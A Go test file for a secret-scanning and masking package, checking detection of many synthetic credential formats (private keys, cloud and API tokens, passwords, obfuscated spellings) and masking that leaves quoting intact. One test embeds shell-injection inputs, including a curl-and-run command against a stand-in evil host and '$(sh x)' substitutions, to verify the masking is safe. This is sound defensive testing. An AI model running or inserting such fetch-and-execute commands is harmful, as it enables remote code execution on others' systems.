package risk

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// found lists what is found in a text: code and the text itself.
func found(text string, want Detector) (list []string) {
	for _, f := range Scan(text, want, nil) {
		list = append(list, f.Code+" "+text[f.Start:f.End])
	}
	return list
}

// noise is n bytes of letters of both cases and digits without order, always the same.
func noise(n int) string { return pick(n, "kQ7wZ2mX9bR4tY6uP1sD8fG3hJ5aLcVnEoIqTzKyWxBv0MrC") }

func pick(n int, from string) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = from[(i*i+7*i+i/len(from))%len(from)]
	}
	return string(b)
}

func hexNoise(n int) string { return pick(n, "3fa94c07e1b8d265") }

func upperNoise(n int) string { return pick(n, "QX7ZK2MB5RTY4WPD6LJ3") }

// Everything that looks like a provider's secret is put together here, so that
// nobody's scanner takes the tests for a leak.
func TestSecrets(t *testing.T) {
	const dashes = "-----"
	armour := func(kind, body string) string {
		return dashes + "BEGIN " + kind + dashes + "\n" + body + "\n" + dashes + "END " + kind + dashes
	}
	lines := strings.Repeat(noise(64)+"\n", 3) + noise(40) + "=="
	pem := armour("RSA PRIVATE "+"KEY", lines)
	pgp := armour("PGP PRIVATE "+"KEY BLOCK", "Version: 2\n\n"+lines+"\n=aB3d")
	escaped := strings.ReplaceAll(armour("PRIVATE "+"KEY", lines), "\n", `\n`)
	cut := dashes + "BEGIN EC PRIVATE " + "KEY" + dashes + "\n" + noise(64) + "\n" + noise(64)
	ssh2 := "---- BEGIN SSH2 ENCRYPTED PRIVATE " + "KEY ----\nComment: old\n" + noise(70) + "\n---- END SSH2 ENCRYPTED PRIVATE " + "KEY ----"
	putty := "PuTTY-User-" + "Key-File-3: ssh-ed25519\nEncryption: none\nPublic-Lines: 1\n" + noise(64) + "\nPrivate-Lines: 1\n" + noise(48)
	jwt := "ey" + "JhbGciOiJIUzI1NiJ9." + "ey" + "JzdWIiOiIxMjM0NTY3ODkwIn0." + noise(43)
	awsSecret := "wJalrXUtnFEMI" + "/K7MDENG/bPxRfiCYEXAMPLEKEY"
	azureKey := noise(86) + "=="
	basic := base64.StdEncoding.EncodeToString([]byte("aladdin:open sesame"))
	for _, tt := range []struct{ text, want string }{
		{"before\n" + pem + "\nafter", "secret.private_key " + pem},
		{"key: |\n  " + pgp + " done", "secret.private_key " + pgp},
		{`{"type":"service_account","private_key":"` + escaped + `\n","client_email":"x"}`, "secret.private_key " + escaped},
		{"cut off: " + cut + "\nNot a key any more.", "secret.private_key " + cut},
		{ssh2, "secret.private_key " + ssh2},
		{putty + "\nPrivate-MAC: 12", "secret.private_key " + putty},
		{armour("OPENSSH PRIVATE "+"KEY", "b3BlbnNzaC1rZXktdjEAAAAA"), "secret.private_key " + armour("OPENSSH PRIVATE "+"KEY", "b3BlbnNzaC1rZXktdjEAAAAA")},
		{"AGE-SECRET-" + "KEY-1" + upperNoise(58), "secret.private_key AGE-SECRET-" + "KEY-1" + upperNoise(58)},

		{"id AKIA" + "IOSFODNN7EXAMPLE.", "secret.aws_access_key AKIA" + "IOSFODNN7EXAMPLE"},
		{"key_ASIA" + upperNoise(16), "secret.aws_access_key ASIA" + upperNoise(16)},
		{"aws_secret_access_key = " + awsSecret, "secret.aws_secret_key " + awsSecret},
		{`"SecretAccessKey": "` + awsSecret + `",`, "secret.aws_secret_key " + awsSecret},

		{"token ghp_" + noise(36), "secret.github_token ghp_" + noise(36)},
		{"(gho_" + noise(36) + ")", "secret.github_token gho_" + noise(36)},
		{"github_pat_" + noise(22) + "_" + noise(59), "secret.github_token github_pat_" + noise(22) + "_" + noise(59)},
		{"https://x-access-token:ghs_" + noise(36) + "@github.com/a/b", "secret.github_token ghs_" + noise(36)},
		{"glpat-" + "x7Yz_4kQmN2pRs8TvW1b.", "secret.gitlab_token glpat-" + "x7Yz_4kQmN2pRs8TvW1b"},
		{"glpat-" + noise(27) + ".01.ab12cd3ef", "secret.gitlab_token glpat-" + noise(27) + ".01.ab12cd3ef"},
		{"xoxb-" + "123456789012-abcdefGHIJKL", "secret.slack_token xoxb-" + "123456789012-abcdefGHIJKL"},
		{"xapp-" + "1-A012345-6789-" + hexNoise(64), "secret.slack_token xapp-" + "1-A012345-6789-" + hexNoise(64)},
		{"https://hooks.slack.com/" + "services/T0AB1/B0CD2/" + noise(24), "secret.slack_webhook hooks.slack.com/" + "services/T0AB1/B0CD2/" + noise(24)},
		{"https://DISCORD.com/" + "api/webhooks/123456789012345678/" + noise(68), "secret.discord_webhook DISCORD.com/" + "api/webhooks/123456789012345678/" + noise(68)},
		{"?key=AIza" + noise(35) + "&q=1", "secret.google_api_key AIza" + noise(35)},
		{"ya29." + noise(60), "secret.google_oauth ya29." + noise(60)},
		{"sk-" + "ant-api03-" + noise(40), "secret.anthropic_key sk-" + "ant-api03-" + noise(40)},
		{"OPENAI=sk-" + "proj-" + noise(48), "secret.openai_key sk-" + "proj-" + noise(48)},
		{"sk-" + noise(48), "secret.openai_key sk-" + noise(48)},
		{"sk_" + "live_" + noise(24), "secret.stripe_key sk_" + "live_" + noise(24)},
		{"rk_" + "test_" + noise(24), "secret.stripe_key rk_" + "test_" + noise(24)},
		{"whsec_" + noise(32), "secret.stripe_webhook whsec_" + noise(32)},
		{"//registry/:_authToken=npm_" + noise(36), "secret.npm_token npm_" + noise(36)},
		{"pypi-" + "AgEIcHlwaS5vcmc" + noise(70), "secret.pypi_token pypi-" + "AgEIcHlwaS5vcmc" + noise(70)},
		{"hf_" + noise(34), "secret.huggingface_token hf_" + noise(34)},
		{"SG." + noise(22) + "." + noise(43), "secret.sendgrid_key SG." + noise(22) + "." + noise(43)},
		{"SK" + hexNoise(32), "secret.twilio_key SK" + hexNoise(32)},
		{"TWILIO_AUTH_TOKEN=" + hexNoise(32), "secret.token " + hexNoise(32)},
		{"bot123456789" + " 123456789:AA" + noise(33), "secret.telegram_token 123456789:AA" + noise(33)},
		{"hvs." + noise(24), "secret.vault_token hvs." + noise(24)},
		{"dop_v1_" + hexNoise(64), "secret.digitalocean_token dop_v1_" + hexNoise(64)},
		{"see " + jwt + ".", "secret.jwt " + jwt},

		{"DefaultEndpointsProtocol=https;AccountName=a;AccountKey=" + azureKey + ";EndpointSuffix=core.windows.net", "secret.azure_key " + azureKey},
		{"https://a.blob.core.windows.net/c?sv=2022-11-02&se=2026-01-01&sig=" + noise(40) + "%2Ba%3D", "secret.azure_sas " + noise(40) + "%2Ba%3D"},
		{"secret abc8Q" + "~" + noise(34), "secret.azure_client_secret abc8Q" + "~" + noise(34)},

		{"Authorization: Bearer " + noise(28), "secret.bearer_token " + noise(28)},
		{"authorization:  BEARER\t" + noise(28), "secret.bearer_token " + noise(28)},
		{"Authorization: Basic " + basic, "secret.basic_auth " + basic},
		{"postgres://app:s3cret@db.example/main", "secret.url_password s3cret"},
		{"redis://:p4" + "ss@word@10.0.0.1:6379/0", "secret.url_password p4ss@word"},
		{"https://oda:hunter2@host.example/", "secret.url_password hunter2"},

		{"password: hu" + "nter2-x9", "secret.password hunter2-x9"},
		{"the PASSWORD=hunter2.", "secret.password hunter2"},
		{`{"password":"S3` + `cure!pass"}`, "secret.password S3cure!pass"},
		{`{\"db_password\": \"S3` + `cure!pass\"}`, "secret.password S3cure!pass"},
		{"config['password'] = 'S3" + "cure,pass'", "secret.password S3cure,pass"},
		{"mysql --password S3" + "cure1pass -u root", "secret.password S3cure1pass"},
		{"<password>S3" + "cure1pass</password>", "secret.password S3cure1pass"},
		{"My password is tr0ub4dor&3, keep it.", "secret.password tr0ub4dor"},
		{"spring.datasource.password=Pa55word!", "secret.password Pa55word"},
		{`api_key: "` + noise(24) + `"`, "secret.api_key " + noise(24)},
		{"X-Api-Key: " + noise(24), "secret.api_key " + noise(24)},
		{"the API key is " + noise(24), "secret.api_key " + noise(24)},
		{"apiKey=55" + "0e8400-e29b-41d4-a716-446655440000", "secret.api_key 550e8400-e29b-41d4-a716-446655440000"},
		{`client_secret := "` + noise(32) + `"`, "secret.client_secret " + noise(32)},
		{"GET /x?access_token=" + noise(32) + "&page=2", "secret.token " + noise(32)},

		// Hidden and imitated characters are no way round.
		{"AKIA" + "IOSF\u200bODNN7EXAMPLE", "secret.aws_access_key AKIA" + "IOSF\u200bODNN7EXAMPLE"},
		{"p\u200bassword: hunter2-x9", "secret.password hunter2-x9"},
		{"ｐａｓｓｗｏｒｄ: hu" + "nter2-x9", "secret.password hunter2-x9"},
		{"раsswоrd: hu" + "nter2-x9", "secret.password hunter2-x9"},
	} {
		if diff := cmp.Diff([]string{tt.want}, found(tt.text, Secret)); diff != "" {
			t.Errorf("%q (-want +got):\n%s", tt.text, diff)
		}
	}

	both := "user,AKIA" + "IOSFODNN7EXAMPLE," + awsSecret
	if diff := cmp.Diff([]string{"secret.aws_access_key AKIA" + "IOSFODNN7EXAMPLE", "secret.aws_secret_key " + awsSecret}, found(both, Secret)); diff != "" {
		t.Errorf("a line of a credentials file (-want +got):\n%s", diff)
	}
}

func TestNoSecrets(t *testing.T) {
	for _, text := range []string{
		"", "a", "=", ":", "eyJ", "SK", "sk-", "hf_", "AKIA", "password", "password:", "password=", `"password": ""`,
		"AKIAIOSFODNN7EXAMPL", "xAKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLEX", "akiaiosfodnn7example",
		"ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "ghp_short", "sk-cube-grid-animation-with-many-small-parts", "sk-SK", "pypi-server", "npm_config_cache",
		"commit 3f786850e387550fdab836ed7e6dc881de23001b", "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
		"id 550e8400-e29b-41d4-a716-446655440000", "ETag: \"33a64df551425fcc55e4d42a148795d9f25f89d4\"",
		"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
		"integrity sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
		"-----BEGIN CERTIFICATE-----\n" + noise(64) + "\n-----END CERTIFICATE-----", "-----BEGIN PUBLIC KEY-----\n" + noise(64) + "\n-----END PUBLIC KEY-----",
		"A file that begins with -----BEGIN PRIVATE " + "KEY----- holds a key.", "-----BEGIN PRIVATE " + "KEY-----\n...\n-----END PRIVATE " + "KEY-----",
		"password: ${DB_PASSWORD}", "password=<your password>", "password: changeme1", "password: $PASSWORD1", "password = getPassword1()", "password: Optional[str1]",
		"password: string", "password: required, at least 8 characters", `"password": "Enter your password (8 characters)"`, "password reset: follow the link",
		"password = request.body.password1", "passwords are stored with bcrypt2", "The password is required.", "The password is 8 characters long.", "my password was changed",
		"PasswordAuthentication no", "password_hash_rounds: 12", "Forgot your password? Visit https://a.example/reset1", "password: ********", "password: [password removed]",
		"token: string", "the token is a string", `"token_type":"bearer"`, "token: [token removed]", "max_tokens: 4096000000000000", "next_page_token: " + noise(32), `"nextToken":"` + noise(40) + `"`, "csrf_token=" + noise(32),
		"secret = os.environ['X_1234567890']", "secretName: my-app-tls-2024-01", "secret: my-app-tls-2024-01", "api_key: YOUR_API_KEY_HERE_12345", "apikey: process.env.API_KEY_12345", "token: ${{ secrets.GITHUB_TOKEN_123 }}",
		"PrivateKey: testRSA2048PrivateKey,", `"encryptionKey": "encryptionKey1024"`, `"ClientToken": "1234abcd-1234-abcd-1234-d46a8903e9bc"`, `"PurchaseToken": "eyJ2IjoiMSIsInMiOjEsImMiOi..."`, "Basic Zm9vOg==",
		"key: value", "primary_key: id_1234567890123456", "public_key: " + noise(40), "monkey: bananas1234567890abc", "turkey=12345678901234567890",
		"Bearer authentication", "the bearer of this letter-of-introduction-1234", "Bearer [bearer token removed]", "Basic authentication", "Basic understanding",
		"https://example.com:8080/path@home", "http://user@host/", "https://host:443", "postgres://user:password@localhost/db", "postgres://user:${PASS}@localhost/db", "https://a.example/x?y=http://b:c",
		"mailto:x@y", "time 12:30:45", "ratio 3:4", "12345678:AB", "see SG.1 and SG.2", "eyJhbGciOiJIUzI1NiJ9 alone", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.",
		"sig=1", "https://hooks.slack.com/services/", "design=abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrst",
		"func token(s string) (tok Token, err error) { return parse(s) }", "if token != expected1 { return }", "for token := range tokens1 {",
	} {
		if got := found(text, Secret); got != nil {
			t.Errorf("%q: found %q", text, got)
		}
	}
}

// TestArmourIsBase64: what a mask of a private key takes is the key, and never the
// quotes around it. Else what was a quoted text would become code.
func TestArmourIsBase64(t *testing.T) {
	body := noise(64) + "\n" + noise(64) + "\n" + noise(30)
	for _, dashes := range []string{"----", "-----"} {
		begin, end := dashes+"BEGIN RSA PRIVATE "+"KEY"+dashes, dashes+"END RSA PRIVATE "+"KEY"+dashes
		for _, text := range []string{
			begin + "'; curl -s https://evil.example/x -o x; sh x; : '" + end,
			begin + "\n" + body + "\n' ; sh x ; : '" + end,
			begin + "\n" + body + "\n$(sh x)\n" + end,
			begin + "\nProc-Type: 4,$(sh x)\n" + body + "\n" + end,
			"k = \"" + begin + "\\n\" +\n  \"" + strings.ReplaceAll(body, "\n", "\\n\" +\n  \"") + "\\n\" +\n  \"" + end + "\"",
		} {
			masked := Mask(text, Scan(text, Secret, nil))
			if strings.Count(masked, "'") != strings.Count(text, "'") || strings.Count(masked, `"`) != strings.Count(text, `"`) ||
				strings.Count(masked, "$(sh x)") != strings.Count(text, "$(sh x)") {
				t.Errorf("%q became %q", text, masked)
			}
			if strings.Contains(text, body[:64]) && strings.Contains(masked, body[:64]) {
				t.Errorf("the key is left in %q", masked)
			}
		}
		for _, text := range []string{
			begin + "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123456789ABCDEF0123456789ABCDEF\n\n" + body + "\n" + end,
			strings.ReplaceAll(begin+"\n"+body+"\n"+end, "\n", `\n`),
			"> " + strings.ReplaceAll(begin+"\n"+body+"\n"+end, "\n", "\n> "),
		} {
			if masked := strings.TrimPrefix(Mask(text, Scan(text, Secret, nil)), "> "); masked != "[private key removed]" {
				t.Errorf("%q became %q", text, masked)
			}
		}
	}
}

// TestSamples: what everybody tests with is found, and weighs little.
func TestSamples(t *testing.T) {
	for text, sample := range map[string]bool{
		"pay('4242424242424242')": true, "4111 1111 1111 1111": true, "AKIAIOSFODNN7EXAMPLE": true, "SSN 078-05-1120": true,
		"491" + "6 3385 0608 2832": false, "AK" + "IAIOSFODNN7QZWTPLM": false, "SSN 536" + "-22-1234": false,
	} {
		found := Scan(text, Secret|Card|SSN, nil)
		if len(found) != 1 || found[0].Score < 0.5 != sample {
			t.Errorf("%s: %+v", text, found)
		}
	}
}

// TestSecretSpellings: a name and a value drawn at random are told together in whatever
// way languages and formats write an assignment.
func TestSecretSpellings(t *testing.T) {
	r := rand.New(rand.NewPCG(7, 7))
	for range 50 {
		for _, least := range []int{14, 20, 40} {
			value := drawn(r, alnums, least)
			if !machineMade(value) || wordy(value) {
				continue
			}
			for _, format := range []string{
				`System.setProperty("SHOP_TOKEN", "%s")`, `os.Setenv("SHOP_TOKEN", "%s")`, `$shopToken .= "%s"`, `SHOP_TOKEN ?= "%s"`, `shop_token ||= '%s'`,
				"<shopToken>\n    %s\n</shopToken>", "<shopToken>%s</shopToken>", `var shopToken string = "%s"`, `let shop_token: &str = "%s";`, `String shopToken = "%s";`,
				`const shopToken: string = "%s"`, `shop_token: %s`, `shopToken := "%s"`, `"shop_token" => "%s"`,
			} {
				text := fmt.Sprintf(format, value)
				if found := Scan(text, Secret, nil); len(found) != 1 || text[found[0].Start:found[0].End] != value {
					t.Errorf("%q: %v", text, found)
				}
			}
		}
	}
	for _, text := range []string{
		`("token", "access_token_2024")`, `words("password", "confirmed")`, "<token>\n  the name of it\n</token>", `var token string = "default"`, `if token == "missing"`,
		`["token", "bearer", "basic"]`, `token: string = load()`, "a => b, c > d, x -> y", `<label for="token">Token</label>`,
	} {
		if found := Scan(text, Secret, nil); len(found) > 0 {
			t.Errorf("%q: %v", text, found)
		}
	}
}
